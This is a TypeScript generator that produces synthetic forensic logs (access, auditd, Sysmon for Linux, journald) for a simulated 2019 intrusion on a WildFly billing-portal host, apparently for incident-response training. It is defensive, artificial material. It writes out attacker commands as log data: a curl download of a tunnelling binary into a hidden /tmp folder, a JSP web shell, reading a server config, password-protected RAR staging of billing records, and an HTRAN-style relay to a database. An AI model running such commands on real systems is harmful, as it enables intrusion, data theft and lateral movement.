/**
 * The Linux WildFly host of examples/soft-cell (APP-WF03, the self-care billing portal on CentOS 7,
 * WildFly 10 as user `wildfly`): four days of ordinary work and, on 2019-03-06, the same operator
 * getting in through the JMXInvokerServlet, running commands from the JVM, planting a JSP shell,
 * packing billing CDR exports into a password-protected split RAR under /tmp and starting an
 * HTRAN-like bouncer towards CDR-DB01. Written as the server writes it: an Undertow `combined`
 * access log with response times (server clock CET, +0100), raw auditd records, Sysmon for Linux
 * events in syslog beside ordinary syslog lines, and a `journalctl -u wildfly -o json` export.
 *
 * Called by generate-examples.ts; its own seeded generator keeps the Windows data unchanged.
 */
import { auditExec, clfTime, combinedLine, resetSysmonRecordId, sysmonFileCreate, sysmonNetwork, sysmonProcess } from './linux-evidence-lines.js';
import { seededRandom } from './seeded-random.js';

export interface LinuxHostContext {
  /** Day index (0 = 2019-03-04) and "HH:MM:SS" → epoch ms (UTC). */
  at: (day: number, hms: string) => number;
  days: number;
  operatorIp: string;
  stagingIp: string;
  cdrIp: string;
}

export interface LinuxHostOutput {
  files: Array<{ path: string; content: string; events: number }>;
  notes: Array<{ t: number; host: string; what: string }>;
}

export const LINUX_HOST = { folder: 'APP-WF03', name: 'app-wf03', ip: '172.16.10.13' };

const JAVA = '/usr/lib/jvm/java-1.8.0-openjdk-1.8.0.201.b09-2.el7_6.x86_64/jre/bin/java';
const JAVA_CMD = `${JAVA} -D[Standalone] -server -Xms1g -Xmx2g -XX:MetaspaceSize=96M -Djava.net.preferIPv4Stack=true -Dorg.jboss.boot.log.file=/opt/wildfly/standalone/log/server.log -Dlogging.configuration=file:/opt/wildfly/standalone/configuration/logging.properties -jar /opt/wildfly/jboss-modules.jar -mp /opt/wildfly/modules org.jboss.as.standalone -Djboss.home.dir=/opt/wildfly -Djboss.server.base.dir=/opt/wildfly/standalone -c standalone.xml -b 0.0.0.0`;
const JAVA_PID = 1402;
const WILDFLY_UID = 993;
const ADMIN_UID = 1001;
const LB_IP = '172.16.10.2';
const ADMIN_IP = '10.20.9.15';
const STAGE = '/tmp/.ICE-unix/.x';
const WAR = '/opt/wildfly/standalone/deployments/selfcare.war';
const PAGES = ['/selfcare/', '/selfcare/login', '/selfcare/account', '/selfcare/invoices', '/selfcare/invoices/2019-02.pdf', '/selfcare/usage', '/selfcare/topup', '/selfcare/static/app.js', '/selfcare/static/app.css'];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.121 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 12_1_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.0 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 9; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.105 Mobile Safari/537.36',
];

interface Line { t: number; text: string; events: number }
interface Proc { exe: string; args: string[]; parentImage: string; parentCmd: string; ppid: number; uid: number; user: string; cwd: string; audited: boolean }

/** The host's four logs as they fill up, and the writers of each kind of line. */
class HostLogs {
  readonly access: Line[] = [];
  readonly audit: Line[] = [];
  readonly syslog: Line[] = [];
  readonly journal: Line[] = [];
  readonly notes: LinuxHostOutput['notes'] = [];
  private readonly rand = seededRandom(0x11a0f03);
  private serial = 81_200;
  nextPid = 20_000;
  readonly host = LINUX_HOST.name;

  constructor(readonly ctx: LinuxHostContext) {
    resetSysmonRecordId(30_112);
  }

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rand() * (hi - lo + 1));
  }

  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.rand() * xs.length)]!;
  }

  note(t: number, what: string): void {
    this.notes.push({ t, host: LINUX_HOST.folder, what });
  }

  web(t: number, o: { ip: string; method?: string; uri: string; status?: number; bytes?: number; ua: string; referer?: string }): void {
    this.access.push({ t, events: 1, text: combinedLine({ method: 'GET', status: 200, bytes: this.int(800, 30_000), millis: this.int(2, 180), ...o, clf: clfTime(t, 60) }) });
  }

  /** An ordinary syslog line (`Mar  6 03:13:05 host program[pid]: message`). */
  sys(t: number, program: string, message: string): void {
    const d = new Date(t);
    const bsd = `${d.toUTCString().slice(8, 11)} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
    this.syslog.push({ t, events: 1, text: `${bsd} ${this.host} ${program}: ${message}` });
  }

  sysmon(t: number, text: string): void {
    this.syslog.push({ t, events: 1, text });
  }

  /** A process seen by Sysmon (syslog) and, when auditd's rules cover it, by auditd. Returns its pid. */
  run(t: number, p: Proc): number {
    const me = this.nextPid++;
    this.sysmon(t, sysmonProcess(this.host, iso(t), { image: p.exe, cmd: p.args.join(' '), parentImage: p.parentImage, parentCmd: p.parentCmd, user: p.user, cwd: p.cwd, pid: me, ppid: p.ppid }));
    if (p.audited) {
      const records = auditExec(this.host, (t + 3) / 1000, this.serial++, { exe: p.exe, args: p.args, ppid: p.ppid, pid: me, uid: p.uid, cwd: p.cwd });
      this.audit.push({ t: t + 3, events: records.length, text: records.join('\n') });
    }
    return me;
  }

  /** A userspace audit record (USER_LOGIN, USER_CMD, …). */
  auditUser(t: number, type: string, body: string): void {
    this.audit.push({ t, events: 1, text: `node=${this.host} type=${type} msg=audit(${(t / 1000).toFixed(3)}:${this.serial++}): ${body}` });
  }

  /** A line WildFly writes to its journal (standalone.sh under systemd). */
  journalEntry(t: number, message: string, priority = 6): void {
    const us = String(t * 1000 + this.int(0, 999));
    const entry = {
      __CURSOR: `s=6f1c2d3e4b5a49a8b1c2d3e4f5a6b7c8;i=${(0x2a000 + this.journal.length).toString(16)};b=0d4be5a0c3b34c1e9a7c5b2d1e0f9a8b;m=${(t - this.ctx.at(0, '00:00:00')).toString(16)};t=${Number(us).toString(16)}`,
      __REALTIME_TIMESTAMP: us, _HOSTNAME: this.host, PRIORITY: String(priority), SYSLOG_FACILITY: '3', SYSLOG_IDENTIFIER: 'standalone.sh', _SYSTEMD_UNIT: 'wildfly.service',
      _PID: String(JAVA_PID), _UID: String(WILDFLY_UID), _COMM: 'java', _EXE: JAVA, MESSAGE: message,
    };
    this.journal.push({ t, events: 1, text: JSON.stringify(entry) });
  }
}

const iso = (t: number): string => new Date(t).toISOString();

/** One ordinary day: health checks, customers, cron, logrotate and a config backup, the admin's check. */
function ordinaryDay(log: HostLogs, d: number): void {
  const { ctx } = log;
  for (let m = 0; m < 24 * 60; m += 15) {
    log.web(ctx.at(d, '00:00:00') + m * 60_000 + log.int(0, 20_000), { ip: LB_IP, uri: '/selfcare/health', bytes: 15, ua: 'check_http/v2.2 (nagios-plugins 2.2.1)' });
  }
  for (let i = 0; i < 60; i++) {
    const t = ctx.at(d, '06:00:00') + log.int(0, 16 * 3600) * 1000;
    const ip = `${log.pick(['81.2', '85.166', '95.85', '188.95'])}.${log.int(1, 254)}.${log.int(1, 254)}`;
    const ua = log.pick(UAS);
    log.web(t, { ip, uri: '/selfcare/login', ua });
    log.web(t + 4000, { ip, method: 'POST', uri: '/selfcare/login', status: 302, bytes: 0, ua, referer: 'https://selfcare.nordtel.example/selfcare/login' });
    log.web(t + 5000, { ip, uri: log.pick(PAGES), ua, referer: 'https://selfcare.nordtel.example/selfcare/account' });
  }
  const root = { uid: 0, user: 'root', cwd: '/', audited: false };
  for (let h = 1; h < 24; h += 4) {
    const t = ctx.at(d, `${String(h).padStart(2, '0')}:01:01`);
    log.sys(t, `CROND[${log.nextPid + 1}]`, '(root) CMD (run-parts /etc/cron.hourly)');
    log.run(t + 10, { exe: '/usr/bin/run-parts', args: ['/bin/bash', '/bin/run-parts', '/etc/cron.hourly'], parentImage: '/usr/sbin/crond', parentCmd: '/usr/sbin/crond -n', ppid: 911, ...root, cwd: '/root' });
  }
  const tl = ctx.at(d, '03:12:00');
  log.run(tl, { exe: '/usr/sbin/logrotate', args: ['/usr/sbin/logrotate', '-s', '/var/lib/logrotate/logrotate.status', '/etc/logrotate.conf'], parentImage: '/usr/bin/bash', parentCmd: '/bin/sh /etc/cron.daily/logrotate', ppid: 3100 + d, ...root });
  log.run(tl + 30_000, { exe: '/usr/bin/tar', args: ['tar', 'czf', `/var/backups/wildfly-config-2019030${4 + d}.tgz`, '/opt/wildfly/standalone/configuration'], parentImage: '/usr/bin/bash', parentCmd: '/bin/sh /etc/cron.daily/wildfly-backup', ppid: 3110 + d, ...root });
  // The admin logs in over SSH and checks the service.
  const ta = ctx.at(d, '08:40:00') + log.int(0, 1800) * 1000;
  log.sys(ta, `sshd[${4100 + d}]`, `Accepted publickey for nadia from ${ADMIN_IP} port ${log.int(40000, 60000)} ssh2: RSA SHA256:3q1XZfTn0nq2vYcHk7b8V0pD1s9eWc4mQy6uJr5aLk8`);
  log.auditUser(ta + 200, 'USER_LOGIN', `pid=${4100 + d} uid=0 auid=${ADMIN_UID} ses=${20 + d} msg='op=login id=${ADMIN_UID} exe="/usr/sbin/sshd" hostname=${ADMIN_IP} addr=${ADMIN_IP} terminal=ssh res=success'`);
  const admin = { uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true };
  const shell = log.run(ta + 3000, { exe: '/usr/bin/bash', args: ['-bash'], parentImage: '/usr/sbin/sshd', parentCmd: 'sshd: nadia@pts/0', ppid: 4100 + d, ...admin });
  log.auditUser(ta + 9000, 'USER_CMD', `pid=${shell + 1} uid=${ADMIN_UID} auid=${ADMIN_UID} ses=${20 + d} msg='cwd="/home/nadia" cmd=${Buffer.from('systemctl status wildfly').toString('hex').toUpperCase()} terminal=pts/0 res=success'`);
  const fromShell = { parentImage: '/usr/bin/bash', parentCmd: '-bash', ppid: shell, ...admin };
  log.run(ta + 60_000, { exe: '/usr/bin/tail', args: ['tail', '-n', '200', '/opt/wildfly/standalone/log/server.log'], ...fromShell });
  if (d === 1) lookAlikes(log, ta, fromShell);
  log.journalEntry(ctx.at(d, '00:00:05'), 'INFO  [org.jboss.as.server] (DeploymentScanner-threads - 1) WFLYSRV0010: Deployed "selfcare.war" (runtime-name : "selfcare.war")');
}

/**
 * Ordinary work that looks like the attack's steps: logs zipped to /tmp for a vendor case (no
 * password), an encrypted export to the backup volume (not under /tmp), a redeploy whose JSP pages
 * the JVM unpacks into its vfs temp folder.
 */
function lookAlikes(log: HostLogs, ta: number, fromShell: Omit<Proc, 'exe' | 'args'>): void {
  log.run(ta + 120_000, { exe: '/usr/bin/zip', args: ['zip', '-r', '/tmp/wildfly-logs-case4711.zip', '/opt/wildfly/standalone/log'], ...fromShell });
  log.run(ta + 180_000, { exe: '/usr/bin/7za', args: ['7za', 'a', '-pVendorCase4711', '/srv/backup/selfcare-db-20190305.7z', '/srv/backup/selfcare-db-20190305.sql'], ...fromShell });
  const tr = ta + 300_000;
  log.run(tr, { exe: '/usr/bin/cp', args: ['cp', '/home/nadia/selfcare-2.4.1.war', '/opt/wildfly/standalone/deployments/selfcare.war.tmp'], ...fromShell });
  log.journalEntry(tr + 2000, 'INFO  [org.jboss.as.server.deployment] (MSC service thread 1-3) WFLYSRV0027: Starting deployment of "selfcare.war" (runtime-name: "selfcare.war")');
  for (const [i, page] of ['index.jsp', 'login.jsp', 'account/invoices.jsp'].entries()) {
    const t = tr + 2500 + i * 40;
    log.sysmon(t, sysmonFileCreate(log.host, iso(t), JAVA, `/opt/wildfly/standalone/tmp/vfs/temp/tempb7e2a1f0c3d4e5f6/content-5a1c9e77d2b0f3a4/${page}`, JAVA_PID));
  }
  log.journalEntry(tr + 6000, 'INFO  [org.jboss.as.server] (ServerService Thread Pool -- 61) WFLYSRV0016: Replaced deployment "selfcare.war" with deployment "selfcare.war"');
}

/** 2019-03-06 09:20: invoker deserialisation, commands from the JVM, a bouncer downloaded with curl. */
function exploitation(log: HostLogs, asWildfly: Omit<Proc, 'exe' | 'args'>): void {
  const { ctx } = log;
  const op = ctx.operatorIp;
  const tX = ctx.at(2, '09:20:11');
  log.note(tX, `Linux WildFly exploited from ${op}: GET then POST /invoker/JMXInvokerServlet (Undertow access log); the JVM runs sh -c "id;uname -a" and curl pulls a bouncer into ${STAGE} (Sysmon for Linux, auditd)`);
  const invoker = (t: number, method: string, bytes: number): void => log.web(t, { ip: op, method, uri: '/invoker/JMXInvokerServlet', status: 200, bytes, ua: 'Java/1.8.0_181' });
  invoker(tX - 4000, 'GET', 1211);
  invoker(tX, 'POST', 1583);
  log.journalEntry(tX + 300, 'ERROR [io.undertow.request] (default task-7) UT005023: Exception handling request to /invoker/JMXInvokerServlet: java.lang.ClassCastException: java.util.HashSet cannot be cast to org.jboss.invocation.MarshalledInvocation', 3);
  const sh1 = log.run(tX + 800, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', 'id;uname -a'], ...asWildfly });
  const fromSh = { ...asWildfly, parentImage: '/usr/bin/bash', parentCmd: '/bin/sh -c id;uname -a', ppid: sh1 };
  log.run(tX + 850, { exe: '/usr/bin/id', args: ['id'], ...fromSh });
  log.run(tX + 900, { exe: '/usr/bin/uname', args: ['uname', '-a'], ...fromSh });
  invoker(tX + 40_000, 'POST', 1583);
  const curl = log.run(tX + 41_000, { exe: '/usr/bin/curl', args: ['curl', '-s', '-o', `${STAGE}/kworkerd`, `http://${ctx.stagingIp}/lx/k`], ...asWildfly });
  log.sysmon(tX + 41_200, sysmonNetwork(log.host, iso(tX + 41_200), { image: '/usr/bin/curl', pid: curl, user: 'wildfly', initiated: true, src: LINUX_HOST.ip, sport: log.int(40000, 60000), dst: ctx.stagingIp, dport: 80 }));
  invoker(tX + 80_000, 'POST', 1583);
  log.run(tX + 81_000, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', `chmod 755 ${STAGE}/kworkerd`], ...asWildfly });
}

/** The JSP shell, the staged CDR archive and the bouncer towards CDR-DB01. */
function webShellAndStaging(log: HostLogs, asWildfly: Omit<Proc, 'exe' | 'args'>): void {
  const { ctx } = log;
  const op = ctx.operatorIp;
  const tJ = ctx.at(2, '09:23:05');
  log.note(tJ, `The JVM writes a JSP shell into the exploded deployment (${WAR}/css/error.jsp); commands then come through POSTs to it`);
  log.web(tJ - 1000, { ip: op, method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1583, ua: 'Java/1.8.0_181' });
  log.sysmon(tJ, sysmonFileCreate(log.host, iso(tJ), JAVA, `${WAR}/css/error.jsp`, JAVA_PID));
  const jsp = (t: number, cmd: string, exe: string, args: string[]): number => {
    log.web(t - 300, { ip: op, method: 'POST', uri: '/selfcare/css/error.jsp', status: 200, bytes: log.int(200, 3000), ua: UAS[0]! });
    const sh = log.run(t, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', cmd], ...asWildfly });
    return log.run(t + 40, { exe, args, ...asWildfly, parentImage: '/usr/bin/bash', parentCmd: `/bin/sh -c ${cmd}`, ppid: sh });
  };
  jsp(tJ + 60_000, 'cat /opt/wildfly/standalone/configuration/standalone.xml', '/usr/bin/cat', ['cat', '/opt/wildfly/standalone/configuration/standalone.xml']);
  jsp(tJ + 95_000, 'ls -la /srv/billing/export', '/usr/bin/ls', ['ls', '-la', '/srv/billing/export']);

  const tR = ctx.at(2, '10:02:40');
  log.note(tR, `Billing CDR exports packed with a password into 50 MB RAR volumes under ${STAGE}, and fetched through the JSP shell`);
  jsp(tR, `rar a -hpRg#2019cdr -v50m ${STAGE}/m.rar /srv/billing/export/cdr_20190305.csv`, `${STAGE}/rar`, ['rar', 'a', '-hpRg#2019cdr', '-v50m', `${STAGE}/m.rar`, '/srv/billing/export/cdr_20190305.csv']);
  for (let i = 1; i <= 3; i++) log.web(tR + 60_000 + i * 45_000, { ip: op, method: 'POST', uri: '/selfcare/css/error.jsp', status: 200, bytes: i < 3 ? 52_428_800 : 18_211_377, ua: UAS[0]! });

  const tB = ctx.at(2, '10:31:09');
  log.note(tB, `HTRAN-like bouncer (${STAGE}/kworkerd -tran 8443 ${ctx.cdrIp} 1433) accepts ${op} and connects to CDR-DB01`);
  const bouncer = jsp(tB, `nohup ${STAGE}/kworkerd -tran 8443 ${ctx.cdrIp} 1433 >/dev/null 2>&1 &`, `${STAGE}/kworkerd`, [`${STAGE}/kworkerd`, '-tran', '8443', ctx.cdrIp, '1433']);
  const conn = { image: `${STAGE}/kworkerd`, pid: bouncer, user: 'wildfly' };
  log.sysmon(tB + 20_000, sysmonNetwork(log.host, iso(tB + 20_000), { ...conn, initiated: false, src: op, sport: log.int(40000, 60000), dst: LINUX_HOST.ip, dport: 8443 }));
  log.sysmon(tB + 20_100, sysmonNetwork(log.host, iso(tB + 20_100), { ...conn, initiated: true, src: LINUX_HOST.ip, sport: log.int(40000, 60000), dst: ctx.cdrIp, dport: 1433 }));
}

function written(lines: Line[]): { content: string; events: number } {
  const sorted = lines.sort((a, b) => a.t - b.t);
  return { content: sorted.map((l) => l.text).join('\n') + '\n', events: sorted.reduce((s, l) => s + l.events, 0) };
}

export function linuxWildflyHost(ctx: LinuxHostContext): LinuxHostOutput {
  const log = new HostLogs(ctx);
  for (let d = 0; d < ctx.days; d++) ordinaryDay(log, d);
  const asWildfly = { parentImage: JAVA, parentCmd: JAVA_CMD, ppid: JAVA_PID, uid: WILDFLY_UID, user: 'wildfly', cwd: '/opt/wildfly/bin', audited: true };
  exploitation(log, asWildfly);
  webShellAndStaging(log, asWildfly);
  const f = LINUX_HOST.folder;
  return {
    files: [
      { path: `${f}/wildfly/access_log.log`, ...written(log.access) },
      { path: `${f}/audit/audit.log`, ...written(log.audit) },
      { path: `${f}/syslog`, ...written(log.syslog) },
      { path: `${f}/journal-wildfly.json`, ...written(log.journal) },
    ],
    notes: log.notes,
  };
}
